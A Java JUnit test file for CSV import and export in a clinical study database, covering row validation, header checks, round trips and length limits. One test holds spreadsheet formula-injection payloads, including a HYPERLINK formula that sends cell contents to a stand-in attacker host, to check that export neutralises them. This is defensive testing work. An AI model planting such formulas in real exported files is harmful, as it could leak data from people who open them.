/*
 * Copyright 2026 The Ferrum developers
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */
package org.ferrum.study;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class StudyCsvTest {

    @TempDir
    Path dir;

    private static final String TRANSFUSIONS =
            """
            subject_id,transfusion_date,volume_ml,haematocrit
            1,2024-01-05,450,0.6
            1,2024-02-02,450,60
            1,2024-13-01,450,0.6
            1,2024-03-01,abc,0.6
            1,2024-03-29,500,0.58
            """;

    @Test
    void badRowsAreReportedPerRowAndNothingIsKept() throws Exception {
        try (StudyDatabase db = StudyDatabaseTest.memory("csvbad")) {
            db.insert(new Subject(1L, "S01", null, null, null, null, null));
            CsvImportReport rep = StudyCsv.importText(db, Transfusion.class, TRANSFUSIONS, false);
            assertEquals(5, rep.rowsRead());
            assertEquals(0, rep.rowsImported());
            assertEquals(
                    List.of(
                            new CsvImportReport.Problem(
                                    3,
                                    "haematocrit",
                                    "transfusions.haematocrit must be between 0 and 1 (a fraction, not a percentage)"),
                            new CsvImportReport.Problem(
                                    4, "transfusion_date", "'2024-13-01' is not a date (yyyy-mm-dd)"),
                            new CsvImportReport.Problem(5, "volume_ml", "'abc' is not a number")),
                    rep.problems());
            assertTrue(
                    rep.message()
                            .startsWith(
                                    "transfusions: 3 bad rows; nothing imported (the import keeps all rows or none)"),
                    rep.message());
            assertTrue(db.findAll(Transfusion.class).isEmpty(), "not even the good rows");
        }
    }

    @Test
    void keepGoodKeepsTheGoodRows() throws Exception {
        try (StudyDatabase db = StudyDatabaseTest.memory("csvkeep")) {
            db.insert(new Subject(1L, "S01", null, null, null, null, null));
            CsvImportReport rep = StudyCsv.importText(db, Transfusion.class, TRANSFUSIONS, true);
            assertEquals(2, rep.rowsImported());
            assertEquals(3, rep.problems().size());
            List<Transfusion> kept = db.findAll(Transfusion.class);
            assertEquals(
                    List.of(LocalDate.of(2024, 1, 5), LocalDate.of(2024, 3, 29)),
                    kept.stream().map(Transfusion::transfusionDate).toList());
            assertEquals(0.58, kept.get(1).haematocrit());
        }
    }

    @Test
    void unknownAndMissingColumnsAreReportedOnTheHeaderLine() throws Exception {
        try (StudyDatabase db = StudyDatabaseTest.memory("csvheader")) {
            CsvImportReport rep = StudyCsv.importText(
                    db, Transfusion.class, "subject_id,date,volume_ml,haematocrit\n1,2024-01-01,1,0.5\n", false);
            assertEquals(1, rep.problems().get(0).line());
            assertEquals("date", rep.problems().get(0).column());
            assertEquals("transfusion_date", rep.problems().get(1).column());
            assertEquals(
                    "required column missing from the header",
                    rep.problems().get(1).reason());
        }
    }

    @Test
    void exportThenImportGivesTheSameRows() throws Exception {
        try (StudyDatabase db = StudyDatabaseTest.memory("csvfrom");
                StudyDatabase copy = StudyDatabaseTest.memory("csvto")) {
            DemoCohort.generate().loadInto(db);
            StudyCsv.exportAll(db, dir);
            List<CsvImportReport> reports = StudyCsv.importAll(copy, dir);
            assertTrue(reports.stream().allMatch(CsvImportReport::ok), reports.toString());
            for (Class<? extends Record> type : RowMapping.IN_DEPENDENCY_ORDER) {
                assertEquals(db.findAll(type), copy.findAll(type), RowMapping.of(type).table);
            }
            assertTrue(copy.findAll(Subject.class).size() >= 15);
            // ids continue after the imported ones
            Subject added = copy.insert(new Subject(null, "NEW", null, null, null, null, null));
            assertEquals(db.findAll(Subject.class).size() + 1, added.id());
        }
    }

    @Test
    void exportNeutralisesSpreadsheetFormulasAndImportReadsTheOriginalBack() throws Exception {
        try (StudyDatabase db = StudyDatabaseTest.memory("csvformula");
                StudyDatabase copy = StudyDatabaseTest.memory("csvformulacopy")) {
            db.insert(new Subject(
                    null, "=HYPERLINK(\"http://evil.example/?\"&A1,\"S01\")", "F", 1990, 50.0, "+thal", "-x"));
            db.insert(new Subject(null, "@SUM(1)", null, null, null, "\t=cmd", "\r=cmd"));
            db.insert(new Subject(null, "'=quoted", null, null, null, "'note", "''"));
            db.insert(new Subject(null, "S04", null, null, 72.5, "sickle cell disease", null));
            Path file = dir.resolve("subjects.csv");
            StudyCsv.export(db, Subject.class, file);
            String text = java.nio.file.Files.readString(file);
            assertTrue(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"S01\"\")\""), text);
            assertTrue(
                    text.contains("\"'+thal\",\"'-x\"")
                            && text.contains("\"'@SUM(1)\"")
                            && text.contains("\"'\t=cmd\",\"'\r=cmd\""),
                    text);
            assertTrue(text.contains("\"''=quoted\"") && text.contains("\"'note\",\"'''\""), text);
            CsvImportReport rep = StudyCsv.importFile(copy, Subject.class, file, false);
            assertTrue(rep.ok(), rep.toString());
            assertEquals(db.findAll(Subject.class), copy.findAll(Subject.class), "every text comes back exactly");
        }
    }

    @Test
    void importRefusesTooLongCodesNamingTheFieldAndTheLimit() throws Exception {
        try (StudyDatabase db = StudyDatabaseTest.memory("csvlong")) {
            CsvImportReport rep =
                    StudyCsv.importText(db, Subject.class, "code,weight_kg\n" + "C".repeat(65) + ",70\n", false);
            assertEquals(
                    List.of(new CsvImportReport.Problem(
                            2, "code", "subjects.code must be at most 64 characters long; it has 65")),
                    rep.problems());
        }
    }
}
